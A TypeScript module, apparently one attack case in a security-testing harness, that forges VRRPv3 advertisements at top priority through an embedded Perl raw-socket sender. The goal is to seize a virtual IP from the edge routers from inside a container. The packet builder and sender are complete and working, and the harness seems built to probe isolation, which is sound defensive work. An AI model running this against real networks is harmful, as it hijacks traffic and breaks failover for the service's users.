import { networkInterfaces } from 'node:os';
import { execa } from 'execa';
import { register } from '../attack.ts';

/** Sends what it gets on stdin, one packet a line in hex, as IP protocol 112 to VRRP's group. Perl: node has no raw sockets. */
const SENDER = `use Socket;
socket(my $s, PF_INET, SOCK_RAW, 112) or die "no raw socket: $!";
setsockopt($s, 0, 33, pack("C", 255)) or die "ttl: $!";
my $to = pack_sockaddr_in(0, inet_aton("224.0.0.18"));
for (my $n = 0; $n < 50; $n++) { send($s, pack("H*", $ARGV[0]), 0, $to) or die "send: $!"; select(undef, undef, undef, 0.1); }`;

/** A VRRPv3 advertisement (RFC 5798, 5.1) with the checksum over its pseudo-header. */
function advertisement(vrid: number, priority: number, vip: string, source: string): string {
  const bytes = (address: string): number[] => address.split('.').map(Number);
  const packet = [0x31, vrid, priority, 1, 0, 30, 0, 0, ...bytes(vip)];
  const all = [...bytes(source), 224, 0, 0, 18, 0, 112, 0, packet.length, ...packet];
  let sum = 0;
  for (let at = 0; at < all.length; at += 2) sum += (all[at] << 8) | all[at + 1];
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  const checksum = ~sum & 0xffff;
  packet[6] = checksum >> 8;
  packet[7] = checksum & 0xff;
  return Buffer.from(packet).toString('hex');
}

register({
  name: 'forged-vrrp',
  tries: 'tells the edges by VRRP that somebody of higher priority has the VIP (NET_RAW is Docker’s default)',
  as: ['nobody'],
  seconds: 10,
  async run(attacker) {
    const { vip, vrid } = attacker.target;
    const own = Object.values(networkInterfaces())
      .flat()
      .find((each) => each?.family === 'IPv4' && !each.internal);
    const packet = advertisement(vrid, 255, vip, own?.address ?? '127.0.0.1');
    const { exitCode, stderr } = await execa('perl', ['-e', SENDER, packet], {
      reject: false,
      stdin: 'ignore',
    });
    return { did: exitCode === 0 ? '50 advertisements of priority 255' : String(stderr), got: [] };
  },
});
